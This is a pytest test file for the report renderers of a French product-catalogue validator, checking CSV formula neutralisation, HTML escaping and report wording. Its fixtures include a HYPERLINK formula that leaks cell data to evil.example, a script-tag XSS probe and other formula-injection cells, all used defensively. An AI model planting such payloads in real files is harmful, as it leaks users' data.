"""The report renderers: JSON, annotated CSV, converted copy, HTML, text, and the files on disk."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from markupsafe import escape

from catalog.domain.columns import FULL_COLUMNS
from catalog.domain.issues import Issue, Severity, Text
from catalog.domain.report import ProductResult, Report, Table
from catalog.domain.rules import issue
from catalog.readers.csv_table import parse_table
from reports.annotated import neutralise, render_annotated_csv
from reports.converted import is_convertible, render_converted_csv
from reports.files import report_stem, write_reports
from reports.html import render_html
from reports.json_report import render_json
from reports.outcome import is_file_issue, nothing_accepted
from reports.templating import environment
from reports.text import render_text
from reports.wording import agree, count_en, count_fr, nouns

BOM = b"\xef\xbb\xbf"
SCRIPT = "<script>alert('x')</script>"
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'
MULTILINE = "Perceuse sans fil.\nDeux batteries, chargeur rapide.\r\nGarantie 2 ans."


def cells(**values: str) -> list[str]:
    """A full-CSV row: every column empty except the ones given (underscores stand for spaces)."""
    row = [""] * len(FULL_COLUMNS)
    for name, value in values.items():
        row[FULL_COLUMNS.index(name.replace("_", " "))] = value
    return row


def col(name: str) -> int:
    return FULL_COLUMNS.index(name)


@pytest.fixture
def table() -> Table:
    return Table(
        header=list(FULL_COLUMNS),
        rows=[
            (2, cells(Handle="perceuse-18v", Title='Perceuse "Pro", 18V', **{"Body (HTML)": MULTILINE}, Type="Outils",
                      Tags="Outils, Perceuses", Variant_Price="49,90", Option1_Name="Couleur",
                      Option1_Value="Rouge")),
            (3, cells(Handle="perceuse-18v", Option1_Value="+33 6 12 34 56 78", Variant_Price="49.90")),
            (4, cells(Handle="tournevis", Title="Tournevis", **{"Body (HTML)": HYPERLINK}, Variant_Price="9.90",
                      Tags="@SUM(A1)")),
            (5, cells(Handle="tournevis", Variant_Grams="-12.5", Variant_Inventory_Qty="-5",
                      Product_Policy="\tRetour 30 jours")),
            (6, cells(Handle="marteau", Title=SCRIPT, Variant_Price="12.00")),
            (7, cells(Handle="cle", Title="Clé à molette", Variant_Price="15.00")),
        ],
    )


@pytest.fixture
def issues() -> list[Issue]:
    return [
        issue("contact.phone", row=3, column="Option1 Value", product="perceuse-18v",
              value="+33 6 12 34 56 78", found="+33 6 12 34 56 78"),
        issue("tags.format", row=2, column="Tags", product="perceuse-18v", value="Outils, Perceuses",
              problems_fr="espace après une virgule", problems_en="space after a comma", fixed="Outils,Perceuses"),
        issue("sku.missing", row=4, column="Variant SKU", product="tournevis"),
        issue("description.unsafe_html", row=6, column="Title", product="marteau", value=SCRIPT,
              what="<script>"),
        issue("seo.generated", row=6, product="marteau", fields_fr="SEO Title", fields_en="SEO Title",
              generated="Marteau"),
        issue("seo.title_caps", row=6, column="Title", product="marteau"),
    ]


@pytest.fixture
def report(table: Table, issues: list[Issue]) -> Report:
    return Report(
        kind="full",
        source="uploads/catalogue-mars.csv",
        issues=issues,
        products=[
            ProductResult("perceuse-18v", [2, 3], "refused", ["contact.phone", "tags.format"]),
            ProductResult("tournevis", [4, 5], "accepted", ["sku.missing"]),
            ProductResult("marteau", [6], "refused", ["description.unsafe_html", "seo.generated",
                                                      "seo.title_caps"]),
            ProductResult("cle", [7], "accepted", []),
        ],
        row_count=6,
        table=table,
        corrections={(2, "Variant Price"): "49.90", (2, "Tags"): "Outils,Perceuses"},
    )


@pytest.fixture
def all_refused(table: Table) -> Report:
    """Every product refused: the status stays `partial`, but nothing was accepted."""
    return Report(
        kind="full", source="tout-refuse.csv", row_count=6, table=table,
        issues=[issue("contact.phone", row=3, column="Option1 Value", product="perceuse-18v",
                      value="+33 6 12 34 56 78", found="+33 6 12 34 56 78"),
                issue("price.format", row=6, column="Variant Price", product="marteau", value="12,00",
                      example="12.00", suggestions=["12.00"])],
        products=[ProductResult("perceuse-18v", [2, 3], "refused", ["contact.phone"]),
                  ProductResult("marteau", [6], "refused", ["price.format"])],
    )


@pytest.fixture
def rejected() -> Report:
    """A file rejected before any row was read: no table, no products."""
    return Report(kind="full", source="catalogue;point-virgule.csv", row_count=0, issues=[
        issue("structure.delimiter", found="des points-virgules", found_en="semicolons"),
    ])


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))


# ---- JSON -------------------------------------------------------------------


def test_json_has_the_documented_shape(report: Report) -> None:
    text = render_json(report)
    data = json.loads(text)
    assert list(data) == ["kind", "source", "status", "summary", "issues", "products"]
    assert data["status"] == "partial"
    assert data["summary"] == {"rows": 6, "products": 4, "accepted": 2, "refused": 2,
                               "errors": 2, "warnings": 3, "infos": 1}
    first = data["issues"][0]
    assert list(first) == ["code", "severity", "row", "column", "product", "value", "message", "fix", "suggestions"]
    assert set(first["message"]) == {"fr", "en"}
    assert [i["row"] for i in data["issues"]] == sorted(i["row"] for i in data["issues"])
    assert data["products"][0] == {"handle": "perceuse-18v", "rows": [2, 3], "status": "refused",
                                   "codes": ["contact.phone", "tags.format"]}
    assert "interdit" in text and "\\u00e9" not in text, "accents must be written as is (ensure_ascii=False)"
    assert text == render_json(report), "the output is stable"


def test_json_of_a_rejected_file(rejected: Report) -> None:
    data = json.loads(render_json(rejected))
    assert data["status"] == "rejected"
    assert data["issues"][0]["row"] is None
    assert data["issues"][0]["code"] == "structure.delimiter"
    assert data["products"] == []


# ---- Annotated CSV ----------------------------------------------------------


def test_annotated_csv_keeps_the_sellers_cells_and_adds_two_columns(report: Report, table: Table) -> None:
    report.corrections = {}
    data = render_annotated_csv(report)
    assert data.startswith(BOM)
    assert b"\r\nperceuse-18v," in data, "records end with CRLF"
    rows = read_csv(data)
    assert rows[0] == [*FULL_COLUMNS, "Statut", "Erreurs"]
    assert len(rows) == 1 + len(table.rows)
    for (_, original), written in zip(table.rows, rows[1:], strict=True):
        assert len(written) == len(FULL_COLUMNS) + 2
        assert written[:-2] == [neutralise(c) for c in original]
    assert rows[1][col("Body (HTML)")] == MULTILINE
    assert rows[1][col("Title")] == 'Perceuse "Pro", 18V'


def test_annotated_status_and_errors_per_row(report: Report) -> None:
    assert report.table is not None
    numbers = [n for n, _ in report.table.rows]
    rows = dict(zip(numbers, read_csv(render_annotated_csv(report))[1:], strict=True))
    status = {n: r[-2] for n, r in rows.items()}
    errors = {n: r[-1] for n, r in rows.items()}
    assert status == {2: "Refusé", 3: "Refusé", 4: "Accepté avec avertissements", 5: "Accepté", 6: "Refusé",
                      7: "Accepté"}
    # Row 2 has only a warning: it says which row refused its product, its own warning, then the cells fixed.
    assert errors[2].split("\n") == [
        "Produit refusé : voir ligne 3",
        "[tags.format] Tags: Tags mal formés : espace après une virgule.",
        "[corrigé] Tags : « Outils, Perceuses » → « Outils,Perceuses »",
        "[corrigé] Variant Price : « 49,90 » → « 49.90 »",
    ]
    assert errors[3] == ("[contact.phone] Option1 Value: Numéro de téléphone interdit dans « Option1 Value » : "
                         "+33 6 12 34 56 78.")
    assert errors[4] == "[sku.missing] Variant SKU: Cette variante n'a pas de SKU."
    assert errors[5] == "" and errors[7] == ""
    # Errors first, then warnings, then infos; an issue without a column has no "Column:" part.
    codes = [line.split("]")[0] + "]" for line in errors[6].split("\n")]
    assert codes == ["[description.unsafe_html]", "[seo.title_caps]", "[seo.generated]"]
    assert "[seo.generated] Cellule vide dans le fichier" in errors[6]


def test_annotated_rows_of_a_refused_product_without_own_issue_point_to_the_row(table: Table) -> None:
    report = Report(kind="full", source="f.csv", table=table, row_count=6,
                    issues=[issue("price.format", row=5, column="Variant Price", product="tournevis", value="9,9",
                                  example="9.90")],
                    products=[ProductResult("tournevis", [4, 5], "refused", ["price.format"])])
    rows = read_csv(render_annotated_csv(report))
    assert rows[3][-2:] == ["Refusé", "Produit refusé : voir ligne 5"]


def test_annotated_neutralises_formulas_but_keeps_numbers(report: Report) -> None:
    rows = read_csv(render_annotated_csv(report))
    row3, row4, row5 = rows[2], rows[3], rows[4]
    assert row3[col("Option1 Value")] == "'+33 6 12 34 56 78"
    assert row4[col("Body (HTML)")] == "'" + HYPERLINK
    assert row4[col("Tags")] == "'@SUM(A1)"
    assert row5[col("Variant Grams")] == "-12.5"
    assert row5[col("Variant Inventory Qty")] == "-5"
    assert row5[col("Product Policy")] == "'\tRetour 30 jours"


@pytest.mark.parametrize(("cell", "expected"), [
    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"),
    ("+33 6 12", "'+33 6 12"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("-1+2", "'-1+2"),
    ("- point", "'- point"),
    ("\rx", "'\rx"),
    ("-5", "-5"),
    ("-12.5", "-12.5"),
    ("+33", "+33"),
    ("-49,90", "-49,90"),
    ("Perceuse = outil", "Perceuse = outil"),
    ("", ""),
])
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_annotated_neutralises_our_own_cells_too(table: Table) -> None:
    table.header[0] = "=Handle"
    report = Report(kind="full", source="f.csv", table=table, row_count=6)
    assert read_csv(render_annotated_csv(report))[0][0] == "'=Handle"


def test_annotated_short_and_long_rows_keep_status_aligned() -> None:
    header = ["A", "B", "C"]
    report = Report(kind="full", source="f.csv", row_count=2,
                    table=Table(header=header, rows=[(2, ["a"]), (3, ["a", "b", "c", "d"])]))
    rows = read_csv(render_annotated_csv(report))
    assert rows[0] == ["A", "B", "C", "", "Statut", "Erreurs"]
    assert rows[1] == ["a", "", "", "", "Accepté", ""]
    assert rows[2] == ["a", "b", "c", "d", "Accepté", ""]


def test_annotated_when_the_file_is_rejected_every_row_is_refused(table: Table) -> None:
    report = Report(kind="full", source="f.csv", table=table, row_count=6, issues=[
        issue("seller.not_ready", missing_fr="numéro de TVA manquant", missing_en="VAT number missing"),
    ])
    rows = read_csv(render_annotated_csv(report))[1:]
    assert {r[-2] for r in rows} == {"Refusé"}
    assert rows[0][-1].startswith("Fichier refusé : [seller.not_ready] Votre compte vendeur")


def test_annotated_needs_a_table(rejected: Report) -> None:
    with pytest.raises(ValueError, match="no table"):
        render_annotated_csv(rejected)


# ---- The one file to fix: safe fixes in the annotated file, sent back as it is --------------------------


def test_annotated_carries_the_safe_fixes_and_says_so(report: Report, table: Table) -> None:
    rows = read_csv(render_annotated_csv(report))
    expected = [list(c) for _, c in table.rows]
    expected[0][col("Variant Price")] = "49.90"
    expected[0][col("Tags")] = "Outils,Perceuses"
    assert [r[:-2] for r in rows[1:]] == [[neutralise(c) for c in line] for line in expected]
    assert rows[1][col("Title")] == 'Perceuse "Pro", 18V'
    fixed = [line for line in rows[1][-1].split("\n") if line.startswith("[corrigé]")]
    assert fixed == ["[corrigé] Tags : « Outils, Perceuses » → « Outils,Perceuses »",
                     "[corrigé] Variant Price : « 49,90 » → « 49.90 »"]
    assert not any("[corrigé]" in r[-1] for r in rows[2:]), "only the fixed row says so"


def test_annotated_applies_a_fix_that_exposes_a_formula_and_neutralises_it(report: Report, table: Table) -> None:
    table.rows[5][1][col("Title")] = "\u200b=1+1"
    report.corrections = {(7, "Title"): "=1+1", (7, "No Such Column"): "x", (99, "Title"): "x"}
    rows = read_csv(render_annotated_csv(report))
    assert rows[6][col("Title")] == "'=1+1", "the fix is applied, and inert in a spreadsheet"
    assert len(rows) == 7 and all(len(r) == len(FULL_COLUMNS) + 2 for r in rows)


def test_annotated_file_sent_back_as_it_is_reads_as_the_fixed_table(report: Report, table: Table) -> None:
    read = parse_table(render_annotated_csv(report), name="catalogue-mars.annote.csv")
    assert read.table is not None
    assert [(i.code, str(i.severity)) for i in read.issues] == [("structure.report_columns", "info")]
    assert "Statut, Erreurs" in read.issues[0].message.fr and "Rien à faire" in read.issues[0].fix.fr
    assert read.table.header == list(FULL_COLUMNS)
    expected = [(n, list(c)) for n, c in table.rows]
    expected[0][1][col("Variant Price")] = "49.90"
    expected[0][1][col("Tags")] = "Outils,Perceuses"
    assert [(n, c) for n, c in read.table.rows] == expected, "the seller's text, with the fixes, comes back"


# ---- Converted copy ---------------------------------------------------------


def test_converted_copy_of_a_french_excel_file(table: Table) -> None:
    header = list(FULL_COLUMNS)
    header[0], header[1] = "handle", "Title "
    sheet = io.StringIO()
    csv.writer(sheet, delimiter=";", lineterminator="\r\n").writerows(
        [header, *([c.replace("\u200b", "") for c in cells] for _, cells in table.rows)])
    read = parse_table(sheet.getvalue().encode("cp1252", errors="replace"), name="c.csv")
    report = Report(kind="full", source="c.csv", issues=read.issues, table=read.table, row_count=6)
    assert [i.code for i in read.issues] == ["encoding.not_utf8", "structure.delimiter", "structure.header_slip"]
    assert is_convertible(report)
    rows = read_csv(render_converted_csv(report))
    assert rows[0] == list(FULL_COLUMNS), "the template's names"
    assert rows[1][col("Title")] == 'Perceuse "Pro", 18V' and rows[5][col("Title")] == SCRIPT
    assert rows[6][col("Title")] == "Clé à molette", "decoded from Windows-1252"
    assert rows[2][col("Option1 Value")] == "'+33 6 12 34 56 78", "formulas guarded as in the annotated file"
    back = parse_table(render_converted_csv(report), name="c.utf8.csv")
    assert back.issues == [] and back.table is not None and len(back.table.rows) == 6


def test_no_converted_copy_when_the_file_needs_the_sellers_own_fix(table: Table) -> None:
    report = Report(kind="full", source="c.csv", table=table, row_count=6,
                    issues=[issue("structure.delimiter", found="des points-virgules", found_en="semicolons"),
                            issue("structure.columns", position=2, expected="Title", found="Titre", count=31)])
    assert not is_convertible(report)
    assert not is_convertible(Report(kind="full", source="c.csv", table=table)), "nothing to convert"


# ---- HTML -------------------------------------------------------------------


def test_html_escapes_seller_values(report: Report) -> None:
    html = render_html(report, seller_name="Atelier <b>Dupont</b>")
    assert "<script" not in html
    assert str(escape(SCRIPT)) in html
    assert "Atelier &lt;b&gt;Dupont&lt;/b&gt;" in html


def test_html_is_self_contained(report: Report) -> None:
    html = render_html(report)
    assert html.startswith("<!DOCTYPE html>")
    assert '<html lang="fr">' in html and 'lang="en"' in html
    assert 'name="viewport"' in html
    for external in ("<link", "src=", "@import", "url("):
        assert external not in html


def test_html_french_comes_before_english(report: Report, issues: list[Issue]) -> None:
    html = render_html(report)
    for found in issues:
        fr, en = str(escape(found.message.fr)), str(escape(found.message.en))
        assert html.index(fr) < html.index(en)
        assert html.index(str(escape(found.fix.fr))) < html.index(str(escape(found.fix.en)))
    assert html.index("Partiellement accepté") < html.index("Partially accepted")


def test_html_summary_groups_and_compact_list(report: Report) -> None:
    html = render_html(report)
    assert "st-partial" in html
    assert "Problèmes du fichier" not in html, "no file-level issue here"
    # The summary, then refused products, then accepted ones with warnings, then (folded) the infos and the rest.
    order = [html.index(mark) for mark in ('id="resume"', "<h3>perceuse-18v</h3>", "<h3>marteau</h3>",
                                           'id="avertissements"', "<h3>tournevis</h3>", 'id="infos"',
                                           'id="acceptes"')]
    assert order == sorted(order)
    compact = html.index("Acceptés sans avertissement")
    assert html.index("cle", compact) > compact
    assert "<h3>cle</h3>" not in html
    assert "+33 6 12 34 56 78" in html, "the offending value is shown"


def test_html_when_every_product_is_refused(all_refused: Report, report: Report) -> None:
    html = render_html(all_refused)
    assert "Aucun produit accepté" in html and "No product accepted" in html
    assert html.index("Aucun produit accepté") < html.index("No product accepted")
    assert "Partiellement accepté" not in html and "Partially accepted" not in html
    assert "badge st-rejected" in html, "shown in the refusal colour"
    assert "Partiellement accepté" in render_html(report), "one product accepted is still a partial import"


def test_html_counts_variants_in_the_feminine(all_refused: Report) -> None:
    all_refused.kind = "bulk"
    html = render_html(all_refused)
    assert "Aucune variante acceptée" in html and "No variant accepted" in html
    assert "variantes refusées" in html and "variants refused" in html


def test_html_of_a_rejected_file(rejected: Report) -> None:
    html = render_html(rejected)
    assert "Problèmes du fichier" in html
    assert "st-rejected" in html and "Refusé" in html
    assert "structure.delimiter" in html


# ---- Text -------------------------------------------------------------------


def test_text_lists_issues_by_product(report: Report) -> None:
    lines = render_text(report).splitlines()
    assert lines[0].startswith("uploads/catalogue-mars.csv : partiellement accepté")
    assert "4 produits (2 acceptés, 2 refusés)" in lines[0]
    assert "2 erreurs, 3 avertissements, 1 info" in lines[0]
    title = lines.index("perceuse-18v (lignes 2–3) : refusé")
    phone = next(i for i, line in enumerate(lines) if "contact.phone" in line)
    assert title < phone
    assert lines[phone] == (
        "  [erreur] ligne 3 · Option1 Value · contact.phone · Numéro de téléphone interdit dans « Option1 Value » : "
        "+33 6 12 34 56 78.")
    assert lines[-1] == "2 produits refusés sur 4 : corrigez les erreurs ci-dessus ; les autres sont acceptés."
    assert "\x1b[" not in "\n".join(lines)


def test_text_gives_the_fix_in_french_under_each_issue(report: Report, issues: list[Issue]) -> None:
    lines = render_text(report).splitlines()
    for found in issues:
        at = next(i for i, line in enumerate(lines) if line.startswith("  [") and f"· {found.code} ·" in line)
        assert lines[at + 1] == f"      → {found.fix.fr}"
    assert not any(line.strip().startswith("Suggestions") for line in lines), "no issue here has suggestions"


def test_text_lists_suggestions_under_the_fix() -> None:
    report = Report(kind="full", source="f.csv", row_count=1,
                    issues=[issue("taxonomy.type_unknown", row=2, column="Type", product="perceuse", value="Outil",
                                  hint_fr="", hint_en="", suggestions=["Outillage", "Outils électriques", "Jardin"])],
                    products=[ProductResult("perceuse", [2], "refused", ["taxonomy.type_unknown"])])
    lines = render_text(report).splitlines()
    at = next(i for i, line in enumerate(lines) if "taxonomy.type_unknown" in line)
    assert lines[at + 1].startswith("      → Choisissez une collection existante")
    assert lines[at + 2] == "      Suggestions : Outillage, Outils électriques, Jardin"


def test_text_limit(report: Report) -> None:
    text = render_text(report, limit=2)
    assert sum(1 for line in text.splitlines() if line.startswith("  [")) == 2
    assert sum(1 for line in text.splitlines() if line.startswith("      → ")) == 2
    assert "… et 4 autres problèmes" in text


def test_text_when_every_product_is_refused(all_refused: Report) -> None:
    assert all_refused.status == "partial" and nothing_accepted(all_refused)
    lines = render_text(all_refused).splitlines()
    assert lines[0] == ("tout-refuse.csv : aucun produit accepté · 2 produits (0 accepté, 2 refusés) · "
                        "2 erreurs, 0 avertissement, 0 info")
    assert "partiellement" not in "\n".join(lines).lower()
    assert lines[-1] == "Aucun produit accepté : corrigez les erreurs ci-dessus puis renvoyez le fichier."
    assert "      Suggestions : 12.00" in lines


def test_text_final_line_agrees_with_one_accepted_product(report: Report) -> None:
    report.products[1].status = "refused"
    assert render_text(report).splitlines()[-1] == (
        "3 produits refusés sur 4 : corrigez les erreurs ci-dessus ; l'autre est accepté.")


def test_text_of_a_rejected_file(rejected: Report) -> None:
    text = render_text(rejected)
    assert text.splitlines()[0] == "catalogue;point-virgule.csv : refusé · 1 erreur, 0 avertissement, 0 info"
    assert "structure.delimiter · Les colonnes sont séparées par des points-virgules" in text
    assert text.splitlines()[-1].startswith("Fichier refusé")


# ---- Files ------------------------------------------------------------------


def test_write_reports(report: Report, tmp_path: Path) -> None:
    out = tmp_path / "out" / "deep"
    paths = write_reports(report, out)
    assert set(paths) == {"json", "annotated", "html"}
    assert {p.name for p in paths.values()} == {
        "catalogue-mars.rapport.json", "catalogue-mars.annote.csv", "catalogue-mars.rapport.html"}
    assert all(p.parent == out and p.is_file() for p in paths.values())
    assert json.loads(paths["json"].read_text(encoding="utf-8"))["status"] == "partial"
    assert paths["annotated"].read_bytes() == render_annotated_csv(report)


def test_write_reports_without_a_table(rejected: Report, tmp_path: Path) -> None:
    paths = write_reports(rejected, tmp_path)
    assert set(paths) == {"json", "html"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["catalogue_point-virgule.rapport.html",
                                                          "catalogue_point-virgule.rapport.json"]


@pytest.mark.parametrize(("source", "stem"), [
    ("catalogue-mars.csv", "catalogue-mars"),
    ("/data/in/Catalogue Mars.csv", "Catalogue_Mars"),
    ("C:\\Users\\x\\prix.csv", "prix"),
    ("https://shop.example/feeds/google.xml?token=1", "google"),
    ("https://shop.example/", "shop"),
    ("../..", "rapport"),
])
def test_report_stem(source: str, stem: str) -> None:
    assert report_stem(source) == stem


# ---- Shared pieces ----------------------------------------------------------


def test_one_template_environment_escapes_html_only() -> None:
    env = environment()
    assert env is environment()
    assert env.get_template("_issue.html.j2").render(issue={
        "severity": "error", "severity_label": Text("<b>", "<b>"), "row": None, "item": None, "column": None,
        "code": "x.y", "message": Text("<script>", "<script>"), "value": "", "fix": Text("a & b", "a & b"),
        "suggestions": []}).count("&lt;script&gt;") == 2
    text = env.get_template("rejection.txt.j2").render(seller_name="A & <B>", handle="h", source=None,
                                                       reason_lines=["<img>"])
    assert "Bonjour A & <B>," in text and "> <img>" in text


@pytest.mark.parametrize(("count", "fr", "en"), [
    (0, "0 erreur", "0 errors"),
    (1, "1 erreur", "1 error"),
    (2, "2 erreurs", "2 errors"),
])
def test_counted_nouns(count: int, fr: str, en: str) -> None:
    assert count_fr(count, "erreur") == fr and count_en(count, "error") == en


def test_nouns_and_agreement() -> None:
    assert nouns("full").fr(2) == "2 produits" and nouns("bulk").fr(1) == "1 variante"
    assert nouns("bulk").en(0) == "0 variants" and nouns("feed").en(1) == "1 product"
    assert agree("accepté", 2, True) == "acceptées" and agree("refusé", 1, False) == "refusé"
    assert agree("refusé", 0, True) == "refusée"
    assert nouns("bulk").none_accepted() == ("Aucune variante acceptée", "No variant accepted")


def test_file_issue_is_an_issue_without_row_product_or_item(rejected: Report, issues: list[Issue]) -> None:
    assert all(is_file_issue(i) for i in rejected.issues) and rejected.file_rejected
    assert not any(is_file_issue(i) for i in issues)
    assert not is_file_issue(issue("feed.price_format", item="sku-1", value="49,90"))
    warning = issue("structure.collection_not_empty", value="x")
    assert is_file_issue(warning) and warning.severity is Severity.WARNING
    assert not Report(kind="full", source="f.csv", issues=[warning]).file_rejected, "a warning never rejects"


def test_terminal_text_can_leave_infos_out_but_counts_them():
    from catalog.domain.report import ProductResult, Report
    from catalog.domain.rules import issue
    from reports.text import render_text

    report = Report(kind="full", source="c.csv", row_count=2, issues=[
        issue("seo.generated", row=2, column="SEO Title", product="a", fields_fr="le titre SEO",
              fields_en="SEO title", generated="Titre"),
        issue("sku.missing", row=3, column="Variant SKU", product="b"),
    ], products=[ProductResult("a", [2], "accepted", ["seo.generated"]),
                 ProductResult("b", [3], "accepted", ["sku.missing"])])
    quiet = render_text(report, infos=False)
    assert "sku.missing" in quiet and "seo.generated" not in quiet
    assert "1 information non affichée" in quiet
    assert "seo.generated" in render_text(report)


# ---- An account problem is an account problem -------------------------------------------------------


def test_a_seller_not_ready_reads_of_their_account_never_of_their_file() -> None:
    from catalog.domain.sellers import not_ready_issue

    report = Report(kind="full", source="catalogue-mars.csv", issues=[not_ready_issue(["default_shipping"])])
    html = render_html(report)
    assert "Compte vendeur incomplet" in html and "Votre compte vendeur" in html
    assert "Configuration &gt; Méthodes de livraison" in html and "Définir par défaut" in html
    assert "Corrigez les erreurs du fichier" not in html and "Problèmes du fichier" not in html
    text = render_text(report)
    assert text.splitlines()[-1].startswith("Compte vendeur incomplet : votre fichier n'a pas été lu")
    assert "Fichier refusé" not in text


# ---- The summary leads, infos come last -------------------------------------------------------------


def test_html_summary_has_one_line_per_code_with_count_products_and_fix(report: Report) -> None:
    report.products[0].title = "Perceuse Pro 18V"
    report.issues.append(issue("sku.missing", row=7, column="Variant SKU", product="cle"))
    report.products[3].codes.append("sku.missing")
    html = render_html(report)
    summary = html[html.index('id="resume"'):html.index('id="refuses"')]
    assert summary.count('<tr class="sev-') == 5, "one line per error or warning code"
    rows = summary.split('<tr class="sev-')[1:]
    codes = [r.split('<code class="code">')[1].split("</code>")[0] for r in rows]
    assert codes[:2] == ["contact.phone", "description.unsafe_html"], "errors first"
    assert set(codes[2:]) == {"sku.missing", "tags.format", "seo.title_caps"} and "seo.generated" not in codes
    sku = rows[codes.index("sku.missing")]
    assert '</span> : </span>2</td>' in sku and 'href="#p' in sku and "tournevis" in sku and "cle" in sku
    assert "Donnez à chaque variante" in sku and "Give each variant" in sku
    phone = rows[0]
    assert "Perceuse Pro 18V" in phone and "perceuse-18v" in phone, "by title and Handle"
    assert "Numéro de téléphone dans un texte" in phone
    anchor = phone.split('href="#')[1].split('"')[0]
    assert f'id="{anchor}"' in html[html.index('id="refuses"'):], "the link jumps to the product's card"


def test_html_infos_are_folded_at_the_end_and_out_of_the_cards(report: Report) -> None:
    html = render_html(report)
    infos = html.index('<section id="infos">')
    assert "<details" in html[infos:infos + 80]
    assert html.index("seo.generated") > infos, "no info before the folded section"
    cards = html[html.index('id="refuses"'):infos]
    assert "sev-info" not in cards
    assert "1 <span lang=\"fr\">information</span>" in cards, "a card says it has an info, and links to it"


def test_html_prints_without_the_folded_parts() -> None:
    template = environment().get_template("report.html.j2").filename
    css = Path(template).read_text(encoding="utf-8")
    printing = css[css.index("@media print"):]
    assert "details.fold" in printing and "display: none" in printing
    assert "break-inside: avoid" in printing
